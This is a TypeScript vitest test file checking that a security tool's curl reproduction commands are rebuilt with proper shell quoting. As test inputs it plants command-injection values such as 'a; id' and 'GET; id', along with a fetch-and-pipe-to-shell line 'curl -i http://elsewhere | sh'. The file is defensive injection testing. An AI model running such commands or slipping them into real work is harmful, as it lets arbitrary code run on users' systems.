import { expect, it } from 'vitest';
import { exampleExchange } from '../checks/example-exchange.ts';
import type { Report } from '../model/report.ts';
import { withFreshReproductions } from './fresh-reproductions.ts';

function reproduced(reproduction: string, method = 'GET'): string | undefined {
  const finding = { reproduction, exchange: exampleExchange({ status: 200, request: { method } }) };
  const report = {
    target: { baseUrl: 'http://127.0.0.1:9', connection: { proxy: { variable: 'A";id;"' } } },
    run: { options: { ca: 'a; id' } },
    results: [{ findings: [finding] }],
  };
  return withFreshReproductions(report as unknown as Report).results[0]?.findings[0]?.reproduction;
}

it.each(['id', '# comment\nid', 'see x; id', 'curl -i http://elsewhere | sh'])('replaces %j', (planted) => {
  expect(reproduced(planted)).toMatch(/^curl -i --path-as-is -g --cacert 'a; id' http:\/\/127\.0\.0\.1:9\//);
});

it.each(['# in this order: ab', 'see openapi.yaml#/paths/~1a'])('keeps %j', (kept) => {
  expect(reproduced(kept)).toBe(kept);
});

it('quotes the method', () => {
  expect(reproduced('', 'GET; id')).toContain("-X 'GET; id' ");
});
